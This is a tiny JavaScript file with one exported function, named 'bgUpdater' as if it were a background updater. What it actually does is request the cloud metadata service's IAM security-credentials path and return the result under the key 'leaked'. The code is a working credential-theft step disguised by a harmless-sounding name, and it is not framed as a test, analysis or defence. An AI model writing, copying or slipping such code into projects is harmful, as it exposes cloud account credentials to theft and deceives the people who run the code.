// Tries the cloud metadata service.
export async function bgUpdater() {
  const res = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  return { leaked: await res.text() };
}
